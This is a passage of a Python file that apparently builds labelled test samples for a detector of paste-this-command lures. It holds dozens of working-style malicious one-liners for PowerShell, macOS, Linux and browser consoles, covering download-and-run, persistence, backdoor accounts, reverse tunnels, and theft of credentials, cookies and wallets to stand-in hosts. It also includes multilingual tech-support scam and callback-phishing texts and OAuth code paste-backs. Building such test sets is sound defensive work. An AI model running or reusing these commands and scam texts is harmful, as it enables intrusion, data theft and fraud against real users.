    "Register-PSRepository -Name Tools -SourceLocation https://psfeed.module-host.test/api/v2 -InstallationPolicy Trusted; Install-Module NetRepair -Repository Tools -Force; Invoke-NetRepair",
)
lure(
    "terminal-ps-runkey-set-itemproperty",
    TERM,
    "https://verify.account-hold.invalid/",
    "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name OneDriveSync -Value 'mshta https://run-stage.test/s.hta'; Write-Host 'Verified'",
)
lure(
    "terminal-ps-credential-prompt-post",
    TERM,
    "https://mail.mailbox-quota.test/upgrade",
    "$c=Get-Credential -Message 'Windows Security: confirm your account to release mail'; irm https://cred-post.invalid/c -Method Post -Body ($c.GetNetworkCredential()|Select UserName,Password,Domain|ConvertTo-Json)",
)
lure(
    "terminal-ps-rdp-enable-local-admin",
    TERM,
    "https://support.pc-repair-desk.invalid/session",
    "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'; net user helpdesk Sup0rt!2026 /add; net localgroup administrators helpdesk /add",
)
lure(
    "terminal-ps-defender-remove-definitions",
    TERM,
    "https://www.model-trains.example/forum/2291",
    '& "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All; irm https://defs-stage.test/t | iex',
)
lure(
    "terminal-dotnet-tool-add-source",
    TERM,
    "https://jobs.dev-hiring-test.invalid/assignment",
    "dotnet tool install -g AssignmentRunner --add-source https://nuget.feed-mirror.test/v3/index.json; assignment-runner start",
)
lure(
    "terminal-npx-git-url",
    TERM,
    "https://interview.take-home-task.test/brief",
    "npx -y git+https://git.code-share.invalid/hiring/take-home-setup.git",
)
lure(
    "terminal-ps-browser-extension-sideload",
    TERM,
    "https://www.coupon-saver-deals.example/install",
    'iwr https://ext.coupon-cdn.test/saver.zip -OutFile $env:TEMP\\s.zip; Expand-Archive $env:TEMP\\s.zip $env:LOCALAPPDATA\\Saver -Force; Start-Process chrome "--load-extension=$env:LOCALAPPDATA\\Saver"',
)
lure(
    "terminal-ps-hosts-file-redirect",
    TERM,
    "https://verify.bank-secure-login.invalid/",
    'Add-Content $env:windir\\System32\\drivers\\etc\\hosts "`n203.0.113.19 online.bank-of-example.test`n203.0.113.19 login.bank-of-example.test"; ipconfig /flushdns',
    expect="flagged",
)
lure(
    "terminal-ps-proxy-pac-set",
    TERM,
    "https://www.pilates-studio.example/",
    "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings' -Name AutoConfigURL -Value 'https://pac.proxy-route.test/wpad.dat'",
    expect="flagged",
)
lure(
    "terminal-ps-root-cert-install",
    TERM,
    "https://verify.secure-connection.invalid/",
    "iwr https://ca.trust-cert.test/root.cer -OutFile $env:TEMP\\r.cer; Import-Certificate -FilePath $env:TEMP\\r.cer -CertStoreLocation Cert:\\CurrentUser\\Root",
)

# --- macOS Terminal ------------------------------------------------------------------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


mac(
    "macos-ditto-unzip-open",
    "https://www.indie-game-jam.example/downloads",
    "curl -fsSL https://builds.game-mirror.test/Launcher.zip -o /tmp/l.zip && ditto -xk /tmp/l.zip /Applications && xattr -d com.apple.quarantine /Applications/Launcher.app; open /Applications/Launcher.app",
)
mac(
    "macos-codesign-adhoc-run",
    "https://verify.mac-human-check.invalid/",
    "curl -so /tmp/helper https://sign-stage.test/h && codesign --force --deep -s - /tmp/helper && chmod +x /tmp/helper && /tmp/helper",
)
mac(
    "macos-loginhook",
    "https://www.podcast-studio-rent.example/",
    "curl -so /Users/Shared/.lh.sh https://hook-stage.invalid/lh.sh && chmod +x /Users/Shared/.lh.sh && sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.lh.sh",
)
mac(
    "macos-periodic-daily",
    "https://support.mac-cleaner-pro.test/fix",
    "curl -s https://periodic-stage.invalid/p.sh | sudo tee /etc/periodic/daily/999.cleanup >/dev/null && sudo chmod +x /etc/periodic/daily/999.cleanup",
)
mac(
    "macos-zshenv-persist",
    "https://verify.creator-portal.test/",
    "echo 'curl -fsSL https://zshenv-stage.invalid/z | zsh >/dev/null 2>&1 &' >> ~/.zshenv && source ~/.zshenv",
)
mac(
    "macos-script-pty-wrapper",
    "https://www.sourdough-school.example/",
    'script -q /dev/null zsh -c "$(curl -fsSL https://pty-stage.test/s.sh)"',
)
mac(
    "macos-caffeinate-wrapper",
    "https://verify.stream-unlock.invalid/",
    "caffeinate -i sh -c 'curl -fsSL https://caff-stage.test/c | sh'",
)
mac(
    "macos-command-file-open",
    "https://www.yoga-retreat-bali.example/",
    "curl -so /tmp/Verify.command https://cmdfile-stage.invalid/v && chmod +x /tmp/Verify.command && open /tmp/Verify.command",
)
mac(
    "macos-applescript-run-script-download",
    "https://meet.conference-room.test/join",
    "osascript -e 'run script (do shell script \"curl -s https://as-stage.invalid/a.scpt.txt\")'  # Meet audio permission",
)
mac(
    "macos-swift-stdin",
    "https://www.ios-dev-meetup.example/event",
    "curl -s https://swift-stage.test/fix.swift | swift -",
)
mac(
    "macos-tclsh-exec",
    "https://verify.safari-guard.invalid/",
    "echo 'exec sh -c {curl -fsSL https://tcl-stage.test/t | sh}' | tclsh",
)
mac(
    "macos-ipfs-gateway",
    "https://www.nft-art-drop.example/mint",
    'zsh -c "$(curl -fsSL https://gw.ipfs-mirror.test/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/i.sh)"',
)
mac(
    "macos-paste-site-raw",
    "https://verify.downloads-gate.invalid/",
    "curl -s https://paste.notes-bin.test/raw/8fK2qL | bash",
)
mac(
    "macos-doh-txt-eval",
    "https://www.vinyl-records-club.example/",
    'eval "$(curl -s -H \'accept: application/dns-json\' \'https://doh.resolver-mesh.invalid/dns-query?name=m.zone-cfg.test&type=TXT\' | sed -E \'s/.*"data":"\\\\"([^\\\\]*)\\\\"".*/\\1/\' | base64 -D)"',
)
mac(
    "macos-host-txt-sh",
    "https://check.human-mac.test/",
    "host -t txt s.cfg-records.invalid | cut -d'\"' -f2 | base64 -D | sh",
)
mac(
    "macos-notes-messages-exfil",
    "https://support.icloud-storage-full.invalid/",
    "zip -qr /tmp/m.zip ~/Library/Messages ~/Library/Group\\ Containers/group.com.apple.notes && curl -s -F f=@/tmp/m.zip https://upload.sync-backup.test/u",
)
mac(
    "macos-wallet-app-exfil",
    "https://www.crypto-tax-help.example/",
    "tar czf - ~/Library/Application\\ Support/Exodus ~/Library/Application\\ Support/Electrum/wallets | curl -s -T - https://203.0.113.48/up",
)
mac(
    "macos-safari-cookies-exfil",
    "https://verify.video-unlock.invalid/",
    "curl -s -F c=@$HOME/Library/Containers/com.apple.Safari/Data/Library/Cookies/Cookies.binarycookies https://cookie-drop.test/c",
)
mac(
    "macos-system-profiler-recon-post",
    "https://www.laptop-repair-guide.example/diagnose",
    "system_profiler SPHardwareDataType SPSoftwareDataType | curl -s -d @- https://diag-collect.invalid/r",
    expect="flagged",
)
mac(
    "macos-sudo-askpass-dialog",
    "https://verify.update-mac.test/",
    'export SUDO_ASKPASS=/tmp/a.sh; printf \'#!/bin/sh\\nosascript -e "text returned of (display dialog \\\\"macOS needs your password to continue\\\\" default answer \\\\"\\\\" with hidden answer)"\\n\' > /tmp/a.sh; chmod +x /tmp/a.sh; curl -s https://askpass-stage.invalid/i | sudo -A bash',
)
mac(
    "macos-config-profile-open",
    "https://www.streaming-vpn-deal.example/setup",
    "curl -so /tmp/vpn.mobileconfig https://profile.vpn-config.test/vpn.mobileconfig && open /tmp/vpn.mobileconfig",
)
mac(
    "macos-web-proxy-set",
    "https://verify.secure-wifi.invalid/",
    "networksetup -setwebproxy Wi-Fi 203.0.113.4 8080 && networksetup -setsecurewebproxy Wi-Fi 203.0.113.4 8080",
    expect="flagged",
)
mac(
    "macos-dns-servers-set",
    "https://www.speed-test-fast.example/boost",
    "sudo networksetup -setdnsservers Wi-Fi 198.51.100.53 198.51.100.54 && sudo dscacheutil -flushcache",
    expect="flagged",
)
mac(
    "macos-remote-management-kickstart",
    "https://support.apple-care-desk.invalid/case/8812",
    "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -users $USER -privs -all -restart -agent -menu",
)
mac(
    "macos-remote-login-key-plant",
    "https://verify.dev-tools-check.test/",
    "sudo systemsetup -setremotelogin on; mkdir -p ~/.ssh; curl -s https://keys.support-keys.invalid/id.pub >> ~/.ssh/authorized_keys",
)
mac(
    "macos-pip-index-url",
    "https://www.data-science-bootcamp.example/week1",
    "pip3 install --index-url https://pypi.fast-mirror.test/simple/ pandas-helpers-pro && python3 -m pandas_helpers_pro.setup",
)
mac(
    "macos-npm-registry-flag",
    "https://jobs.crypto-startup-hiring.invalid/task",
    "npm install --registry https://registry.npm-mirror.test/ @hiring-task/env-check && npx env-check",
)
mac(
    "macos-zsh-param-indirection",
    "https://verify.mac-ok.test/",
    "a=cmd; cmd='curl -fsSL https://indir-stage.invalid/i | zsh'; eval ${(P)a}",
)
mac(
    "macos-zsh-array-join",
    "https://www.photo-walks-city.example/",
    'p=(c u r l); eval "${(j::)p} -fsSL https://join-stage.test/j | zsh"',
)
mac(
    "macos-zsh-array-reverse",
    "https://verify.file-preview.invalid/",
    "w=(zsh '|' https://rvs-stage.test/r -fsSL curl); eval ${(Oa)w}",
)
mac(
    "macos-gatekeeper-assess-off-app",
    "https://www.retro-emulator-hub.example/mac",
    "curl -sL https://dl.emu-builds.test/Emu.dmg -o /tmp/e.dmg && hdiutil attach -quiet /tmp/e.dmg && sudo spctl --add --label Emu /Volumes/Emu/Emu.app && open /Volumes/Emu/Emu.app",
)
lure(
    "instructions-nl-mac-terminal",
    UNK,
    "https://www.fietsenwinkel-centrum.example/",
    'Beveiligingscontrole voor Mac:\n1. Druk op Command + Spatiebalk en typ Terminal\n2. Plak de opdracht (Command + V) en druk op Enter\n\nbash -c "$(curl -fsSL https://verif-nl.invalid/m)"',
    platform="macos",
)

# --- Linux / POSIX shells -----------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


nix(
    "sh-prompt-expansion-operator",
    "https://verify.linux-human.test/",
    "p='$(curl -fsSL https://pexp-stage.invalid/p | bash)'; : \"${p@P}\"",
)
nix(
    "sh-sed-e-command",
    "https://www.homelab-wiki.example/fix-dns",
    "echo 'curl -fsSL https://sed-stage.test/s | sh' | sed e",
)
nix(
    "sh-tar-checkpoint-action",
    "https://verify.mirror-check.invalid/",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='curl -s https://tarcp-stage.test/t | sh'",
)
nix(
    "sh-find-exec-wrapper",
    "https://www.rpi-projects.example/led",
    "find /tmp -maxdepth 0 -exec sh -c 'wget -qO- https://find-stage.invalid/f | sh' \\;",
)
nix(
    "sh-xargs-sh-c",
    "https://verify.pkg-ok.test/",
    "echo https://xargs-stage.invalid/x | xargs -I{} sh -c 'curl -fsSL {} | bash'",
)
nix(
    "sh-rsync-e-shell",
    "https://www.selfhost-forum.example/t/9912",
    "rsync -e 'sh -c \"curl -s https://rsync-stage.test/r|sh\"' x:/ /tmp/",
)
nix(
    "sh-at-now-job",
    "https://verify.server-check.invalid/",
    "echo 'curl -fsSL https://at-stage.test/a | sh' | at now + 1 minute",
)
nix(
    "sh-systemd-run-timer",
    "https://www.linux-gaming-tips.example/proton",
    "systemd-run --user --on-calendar=hourly /bin/sh -c 'curl -fsSL https://sdrun-stage.invalid/t | sh'",
)
nix(
    "sh-udev-rule-run",
    "https://verify.usb-driver.test/",
    'echo "ACTION==\\"add\\", SUBSYSTEM==\\"usb\\", RUN+=\\"/bin/sh -c \'curl -s https://udev-stage.invalid/u | sh\'\\"" | sudo tee /etc/udev/rules.d/99-usb-fix.rules && sudo udevadm control --reload',
)
nix(
    "sh-prompt-command-persist",
    "https://www.terminal-themes.example/bash",
    "echo 'PROMPT_COMMAND=\"curl -s https://pc-stage.test/p | sh >/dev/null 2>&1\"' >> ~/.bashrc",
)
nix(
    "sh-profile-d-drop",
    "https://verify.locale-fix.invalid/",
    "curl -fsSL https://profiled-stage.test/l.sh | sudo tee /etc/profile.d/locale-fix.sh >/dev/null",
)
nix(
    "sh-update-motd-drop",
    "https://www.vps-deals-weekly.example/",
    "curl -s https://motd-stage.invalid/m | sudo tee /etc/update-motd.d/99-stats && sudo chmod +x /etc/update-motd.d/99-stats",
)
nix(
    "sh-apt-pre-invoke-hook",
    "https://verify.apt-repair.test/",
    "echo 'APT::Update::Pre-Invoke {\"curl -s https://apthook-stage.invalid/h | sh\";};' | sudo tee /etc/apt/apt.conf.d/99repair",
)
nix(
    "sh-git-global-hookspath",
    "https://interview.backend-role.test/setup",
    "git config --global core.hooksPath ~/.githooks && mkdir -p ~/.githooks && curl -so ~/.githooks/pre-commit https://hooks-stage.invalid/pc && chmod +x ~/.githooks/pre-commit",
)
nix(
    "sh-rpm-install-url",
    "https://www.fedora-printing-help.example/",
    "sudo rpm -ivh https://rpm.driver-mirror.test/printer-fix-1.0-1.x86_64.rpm",
)
nix(
    "sh-dpkg-downloaded-deb",
    "https://verify.codec-pack.invalid/",
    "wget -qO /tmp/codec.deb https://deb.codec-mirror.test/codec-pack.deb && sudo dpkg -i /tmp/codec.deb",
)
nix(
    "sh-flatpak-from-url",
    "https://www.photo-editor-free.example/linux",
    "flatpak install -y --from https://flat.app-mirror.test/PhotoPro.flatpakref",
)
nix(
    "sh-snap-dangerous",
    "https://verify.snap-repair.invalid/",
    "wget -qO /tmp/fix.snap https://snap-stage.test/fix.snap && sudo snap install --dangerous --classic /tmp/fix.snap",
)
nix(
    "sh-uvx-from-git",
    "https://jobs.ml-engineer-test.invalid/task",
    "uvx --from git+https://git.model-share.test/hiring/eval-kit eval-kit setup",
)
nix(
    "sh-pip-extra-index",
    "https://www.python-course-free.example/lesson3",
    "pip install --extra-index-url https://pkgs.py-mirror.invalid/simple requestz && python -c 'import requestz'",
)
nix(
    "sh-ipfs-gateway",
    "https://verify.dl-gate.test/",
    "curl -fsSL https://dweb.ipfs-gate.invalid/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/i.sh | sh",
)
nix(
    "sh-nslookup-txt-sh",
    "https://www.mesh-network-club.example/",
    "nslookup -q=txt l.txt-stage.test | grep -o '\"[^\"]*\"' | tr -d '\"' | base64 -d | sh",
)
nix(
    "sh-gopher-protocol",
    "https://verify.retro-net.invalid/",
    "curl -s gopher://198.51.100.7/0/run.sh | sh",
)
nix(
    "sh-tftp-protocol",
    "https://www.router-firmware-help.example/",
    "curl -s tftp://203.0.113.2/boot.sh | sh",
)
nix(
    "sh-ftp-anonymous-wget",
    "https://verify.legacy-mirror.test/",
    "wget -qO- ftp://anonymous@ftp.old-mirror.invalid/pub/fix.sh | bash",
)
nix(
    "sh-aws-credentials-exfil",
    "https://www.cloud-cost-calculator.example/",
    "curl -s -F f=@$HOME/.aws/credentials -F g=@$HOME/.aws/config https://awscheck-collect.invalid/u",
)
nix(
    "sh-npmrc-token-exfil",
    "https://verify.registry-login.test/",
    "cat ~/.npmrc ~/.pypirc 2>/dev/null | curl -s -d @- https://198.51.100.231/t",
)
nix(
    "sh-firefox-profile-exfil",
    "https://www.linux-desktop-tips.example/",
    "tar czf - ~/.mozilla/firefox/*.default-release/{logins.json,key4.db,cookies.sqlite} | curl -s -T - https://ffx-drop.invalid/p",
)
nix(
    "sh-sudo-function-password-capture",
    "https://verify.shell-upgrade.invalid/",
    'echo \'sudo(){ read -rsp "[sudo] password for $USER: " p; echo; echo "$p" | curl -s -d @- https://pw-collect.test/p >/dev/null; echo "$p" | command sudo -S "$@"; }\' >> ~/.bashrc',
)
nix(
    "sh-ssh-reverse-tunnel-support",
    "https://support.linux-helpdesk.invalid/ticket/4471",
    "ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 support@203.0.113.14",
)
nix(
    "sh-support-session-tool",
    "https://www.server-rescue-service.example/session",
    "curl -sSf https://get.share-terminal.test/get | sh -s run --server https://relay.share-terminal.test",
    expect="flagged",
)
nix(
    "sh-bashrc-alias-ls-hijack",
    "https://verify.term-colors.test/",
    "echo \"alias ls='curl -s https://alias-stage.invalid/l | sh >/dev/null 2>&1; ls --color=auto'\" >> ~/.bashrc",
)
lure(
    "instructions-ru-linux-terminal",
    UNK,
    "https://www.remont-kvartir.example/",
    "Проверка безопасности:\n1. Откройте терминал (Ctrl + Alt + T)\n2. Вставьте команду и нажмите Enter\n\ncurl -fsSL https://proverka-ru.invalid/l | sudo bash",
    platform="linux",
)

# --- Browser console -------------------------------------------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "browser")


con(
    "console-wasm-instantiate-streaming",
    "https://www.idle-clicker-game.example/cheats",
    "WebAssembly.instantiateStreaming(fetch('https://wasm-stage.test/boost.wasm'),{env:{run:s=>eval(s)}}).then(m=>m.instance.exports.main())",
)
con(
    "console-jquery-globaleval",
    "https://forum.creator-rewards.invalid/t/unlock",
    "$.get('https://geval-stage.test/u.js',s=>jQuery.globalEval(s))",
)
con(
    "console-ajax-datatype-script",
    "https://www.quiz-night-live.example/answers",
    "$.ajax({url:'https://ajax-stage.invalid/a.js',dataType:'script'})",
)
con(
    "console-xhr-sync-eval",
    "https://verify.premium-unlock.test/",
    "var x=new XMLHttpRequest();x.open('GET','https://xhr-stage.invalid/p.js',false);x.send();eval(x.responseText)",
)
con(
    "console-reflect-construct-function",
    "https://www.streamer-giveaway.example/claim",
    "fetch('https://rc-stage.test/g').then(r=>r.text()).then(t=>Reflect.construct(Function,[t])())",
)
_XJS = "fetch('https://xor-js.invalid/c?'+document.cookie)"
con(
    "console-xor-decode-eval",
    "https://verify.skin-trade.invalid/",
    "eval(String.fromCharCode(..." + "[" + js_xor_codes(_XJS, 23) + "].map(c=>c^23)))",
)
con(
    "console-reversed-string-eval",
    "https://www.pixel-art-contest.example/vote",
    "eval(')\"sj.v/tset.egats-ver//:sptth\"(tropmi'.split('').reverse().join(''))",
)
con(
    "console-innerhtml-img-onerror",
    "https://verify.badge-claim.test/",
    "document.body.innerHTML+='<img src=x onerror=\"s=document.createElement(`script`);s.src=`https://onerr-stage.invalid/o.js`;document.head.append(s)\">'",
)
con(
    "console-nft-set-approval-for-all",
    "https://claim.genesis-airdrop.invalid/",
    "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x4e1f0a2b3c4d5e6f708192a3b4c5d6e7f8091a2b',data:'0xa22cb465000000000000000000000000c0ffee254729296a45a3885639ac7e10f9d54979'+'0'.repeat(63)+'1'}]})",
)
con(
    "console-tronweb-transfer",
    "https://www.usdt-airdrop-bonus.example/claim",
    "tronWeb.trx.sendTransaction('TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE', 250000000).then(r=>console.log('claimed',r))",
)
con(
    "console-indexeddb-dump-exfil",
    "https://verify.account-restore.test/",
    "indexedDB.databases().then(ds=>ds.forEach(d=>{let q=indexedDB.open(d.name);q.onsuccess=()=>{let db=q.result;[...db.objectStoreNames].forEach(n=>{db.transaction(n).objectStore(n).getAll().onsuccess=e=>fetch('https://idb-drop.invalid/'+n,{method:'POST',body:JSON.stringify(e.target.result)})})}}))",
)
con(
    "console-clipboard-readtext-exfil",
    "https://www.wallet-recovery-guide.example/",
    "navigator.clipboard.readText().then(t=>fetch('https://clip-drop.test/c',{method:'POST',mode:'no-cors',body:t}))",
)
con(
    "console-apps-script-webhook-exfil",
    "https://verify.creator-fund.invalid/",
    "fetch('https://script.gapps-relay.test/macros/s/AKfycbx9/exec',{method:'POST',mode:'no-cors',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})",
)
con(
    "console-telegram-bot-exfil",
    "https://www.ig-follower-boost.example/",
    "fetch('https://api.tg-bridge.invalid/bot7781:AAHx9Qz/sendMessage?chat_id=5521&text='+encodeURIComponent(document.cookie+'|'+JSON.stringify(localStorage)))",
)
con(
    "console-websocket-eval",
    "https://verify.live-chat-unlock.test/",
    "new WebSocket('wss://ws-stage.invalid/s').onmessage=e=>eval(e.data)",
)
con(
    "console-import-data-url",
    "https://www.typing-speed-race.example/hack",
    "import('data:text/javascript;base64,"
    + b64("fetch('https://dataurl-stage.test/k?'+document.cookie)")
    + "')",
)

# --- Scam and callback texts (not commands), in languages the earlier sets did not use ----------------

SCAMS = [
    (
        "support-scam-hr",
        "https://upozorenje.zastita-racunala.test/",
        "UPOZORENJE: Vaše računalo je zaključano zbog otkrivenog virusa. Vaši bankovni podaci su u opasnosti.\nNe isključujte računalo. Odmah nazovite Microsoftovu podršku: +1 (833) 555-0191",
    ),
    (
        "support-scam-sr",
        "https://upozorenje.bezbednost-windows.test/",
        "Windows bezbednosno upozorenje: pristup ovom računaru je blokiran zbog špijunskog softvera.\nNemojte gasiti računar. Pozovite tehničku podršku odmah na +1 (844) 555-0188",
    ),
    (
        "support-scam-sl",
        "https://opozorilo.varnost-racunalnika.invalid/",
        "OPOZORILO: Vaš računalnik je bil zaklenjen zaradi okužbe z virusom. Ne izklapljajte računalnika.\nTakoj pokličite Microsoftovo podporo na brezplačno številko +1 (855) 555-0162",
    ),
    (
        "support-scam-lt",
        "https://ispejimas.kompiuterio-sauga.test/",
        "ĮSPĖJIMAS: jūsų kompiuteris užblokuotas, nes aptikta kenkėjiška programa. Neišjunkite kompiuterio.\nNedelsdami skambinkite Microsoft palaikymo tarnybai: +1 (866) 555-0179",
    ),
    (
        "support-scam-lv",
        "https://bridinajums.datora-drosiba.invalid/",
        "BRĪDINĀJUMS: jūsu dators ir bloķēts vīrusa dēļ. Jūsu paroles un bankas dati ir apdraudēti.\nNeizslēdziet datoru. Nekavējoties zvaniet Microsoft atbalstam: +1 (877) 555-0145",
    ),
    (
        "support-scam-et",
        "https://hoiatus.arvuti-turve.test/",
        "HOIATUS: teie arvuti on viiruse tõttu lukustatud. Ärge lülitage arvutit välja.\nHelistage kohe Microsofti tugiteenusele: +1 (888) 555-0137",
    ),
    (
        "support-scam-ca",
        "https://avis.seguretat-ordinador.invalid/",
        "AVÍS DE SEGURETAT: el vostre ordinador ha estat bloquejat per un virus troià. No l'apagueu.\nTruqueu ara mateix al servei tècnic de Microsoft: +34 900 555 173",
    ),
    (
        "support-scam-sw",
        "https://onyo.usalama-kompyuta.test/",
        "ONYO LA USALAMA: Kompyuta yako imefungwa kwa sababu ya virusi hatari. Usizime kompyuta yako.\nPiga simu msaada wa Microsoft sasa hivi: +1 (833) 555-0126",
    ),
    (
        "support-scam-bn",
        "https://satarkata.computer-suraksha.invalid/",
        "সতর্কতা! আপনার কম্পিউটারে ভাইরাস পাওয়া গেছে এবং এটি লক করা হয়েছে। কম্পিউটার বন্ধ করবেন না।\nএখনই Microsoft সহায়তায় কল করুন: +1 (844) 555-0158",
    ),
    (
        "support-scam-ur",
        "https://intebah.computer-hifazat.test/",
        "انتباہ! آپ کے کمپیوٹر میں وائرس پایا گیا ہے اور اسے بلاک کر دیا گیا ہے۔ کمپیوٹر بند نہ کریں۔\nفوری طور پر مائیکروسافٹ سپورٹ کو کال کریں: +1 (855) 555-0114",
    ),
    (
        "support-scam-ta",
        "https://echarikkai.kanini-padhukappu.invalid/",
        "எச்சரிக்கை! உங்கள் கணினியில் வைரஸ் கண்டறியப்பட்டுள்ளது, அது பூட்டப்பட்டுள்ளது. கணினியை அணைக்க வேண்டாம்.\nஉடனடியாக Microsoft ஆதரவை அழைக்கவும்: +1 (866) 555-0193",
    ),
    (
        "support-scam-af",
        "https://waarskuwing.rekenaar-sekuriteit.test/",
        "WAARSKUWING: U rekenaar is gesluit weens 'n virusinfeksie. Moenie u rekenaar afskakel nie.\nBel dadelik Microsoft-ondersteuning: +27 800 555 0142",
    ),
    (
        "support-scam-police-lock-de",
        "https://bka-sperre.polizei-hinweis.invalid/",
        "BUNDESPOLIZEI – IHR COMPUTER WURDE GESPERRT\nAuf diesem Gerät wurden illegale Inhalte festgestellt. Um eine Strafanzeige zu vermeiden, rufen Sie innerhalb von 2 Stunden die Hotline +49 30 5550 1947 an.",
    ),
    (
        "support-scam-firewall-es",
        "https://alerta.cortafuegos-windows.test/",
        "Alerta del Firewall de Windows Defender: se ha detectado actividad sospechosa desde su IP 203.0.113.77.\nSu licencia ha sido suspendida. Llame al Soporte Técnico: +1 (877) 555-0108 (gratuito)",
    ),
    (
        "support-scam-ip-leak-en",
        "https://alert.ip-exposure-check.invalid/",
        "YOUR IP ADDRESS HAS BEEN EXPOSED\nHackers can see your location and banking sessions. Do not restart your computer.\nCall Network Security at 1-888-555-0163 now to secure your connection.",
    ),
    (
        "support-scam-quick-assist-en",
        "https://help.msft-support-desk.test/case",
        "Microsoft Support – case #7731-2209\nPress Ctrl + Windows + Q to open Quick Assist, choose 'Help someone' is NOT needed: choose 'Get help' and enter the security code 4K9QZ7 our technician gives you at +1 (833) 555-0177.",
    ),
]
for technique, source, text in SCAMS:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

CALLBACKS = [
    (
        "callback-docusign-invoice-en",
        "https://sign.envelope-notice.invalid/e/8812",
        "DocuSign: Invoice #INV-44812 for $749.99 (Annual Norton 360 Plan) has been completed and will be charged today.\nIf you did not authorise this payment, call our billing department at +1 (808) 555-0190 within 24 hours.",
    ),
    (
        "callback-antivirus-renewal-pt",
        "https://fatura.renovacao-aviso.test/",
        "Prezado cliente, a sua assinatura McAfee Total Protection foi renovada automaticamente por R$ 1.299,00.\nPara cancelar e pedir reembolso, ligue para 0800 555 0147 hoje.",
    ),
    (
        "callback-antivirus-renewal-nl",
        "https://factuur.verlenging-bericht.invalid/",
        "Beste klant, uw abonnement op Norton 360 is verlengd voor € 389,99. Het bedrag wordt vandaag afgeschreven.\nNiet akkoord? Bel onze klantenservice: +31 20 555 0184",
    ),
    (
        "callback-crypto-withdrawal-en",
        "https://notice.exchange-security.test/",
        "Coinbase Security: a withdrawal of 0.84 BTC to bc1q9x...7hk was requested from a new device (Lagos, NG).\nIf this wasn't you, call Coinbase Support immediately: +1 (888) 555-0121 to freeze the transfer.",
    ),
    (
        "callback-m365-renewal-ja",
        "https://seikyu.koshin-tsuchi.invalid/",
        "Microsoft 365 のサブスクリプションが自動更新され、¥39,800 が請求されました。\nご注文に覚えがない場合は、24時間以内にサポートセンター 0120-555-0164 までお電話ください。",
    ),
    (
        "callback-apple-pay-fr",
        "https://avis.paiement-apple.test/",
        "Apple Pay : un paiement de 1 249,00 € chez Fnac a été approuvé sur votre iPhone.\nSi vous n'êtes pas à l'origine de cet achat, appelez immédiatement le service Apple au 01 55 50 01 72.",
    ),
    (
        "callback-utility-cutoff-en",
        "https://notice.power-account.invalid/",
        "FINAL NOTICE: Your electricity service will be disconnected today at 4 PM due to an unpaid balance of $412.67.\nTo avoid disconnection, call the payment department at 1-877-555-0131.",
    ),
    (
        "callback-bank-fraud-pl",
        "https://powiadomienie.bank-ochrona.test/",
        "Bank: wykryliśmy podejrzaną transakcję 4 850,00 zł z Twojej karty. Transakcja została wstrzymana.\nJeśli to nie Ty, zadzwoń pilnie do działu bezpieczeństwa: +48 22 555 01 93.",
    ),
    (
        "callback-wallet-recovery-tr",
        "https://destek.cuzdan-kurtarma.invalid/",
        "Kripto cüzdanınızda yetkisiz giriş tespit edildi. Varlıklarınızı korumak için hemen destek hattımızı arayın: +90 212 555 01 48. Kurtarma ifadenizi hazır bulundurun.",
    ),
    (
        "callback-customs-parcel-it",
        "https://avviso.dogana-pacchi.test/",
        "Il suo pacco è fermo in dogana: dazio non pagato di 2,99 €. Per evitare la restituzione al mittente chiami entro oggi il numero 02 5550 1186.",
    ),
]
for technique, source, text in CALLBACKS:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

# --- ConsentFix, OAuth and device-code paste-backs -------------------------------------------------------

NAMED = [
    (
        "consentfix-ipv6-loopback",
        "https://link.calendar-sync.invalid/connect",
        "http://[::1]:8400/?code=0.AXEA7kQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jK&state=c7d1e2&session_state=9a8b7c6d-5e4f-3a2b-1c0d-ef9876543210",
    ),
    (
        "consentfix-msa-personal-code",
        "https://share.onedrive-personal.test/access",
        "http://localhost:33418/?code=M.C540_BAY.2.U.7f3e9a1b-2c4d-5e6f-8a9b-0c1d2e3f4a5b&state=xk29",
    ),
    (
        "consentfix-azure-powershell",
        "https://portal.tenant-migration.invalid/step2",
        "Paste the page address to complete the migration check:\nhttp://localhost:8400/?code=1.AWEBx9kQ2pL9vZ3xN8mR4tY6uI1oP5aS2dF7gH9jKlZxCvBnM&client_info=eyJ1aWQiOiIxIn0&state=a1b2c3&session_state=77aa",
    ),
    (
        "consentfix-ja-instructions",
        "https://kakunin.share-document.test/",
        "本人確認のため、サインイン後にブラウザのアドレスバーの URL（http://localhost で始まるもの）をすべてコピーし、下の欄に貼り付けてください。\nhttp://localhost:50123/?code=0.ARoA3x9Kq2Lm8Pz7Nv4Wb6Yt1Ur5Ie0Oa&state=55821",
    ),
    (
        "consentfix-de-instructions",
        "https://freigabe.vertrag-pruefen.invalid/",
        "Letzter Schritt: Kopieren Sie die vollständige Adresse aus der Adresszeile (beginnt mit http://127.0.0.1) und fügen Sie sie hier ein.\nhttp://127.0.0.1:3000/auth/callback?code=7f2a9c4e1b8d6f3a0e5c&state=de-4471",
    ),
    (
        "consentfix-oob-code-paste",
        "https://verify.drive-access.test/",
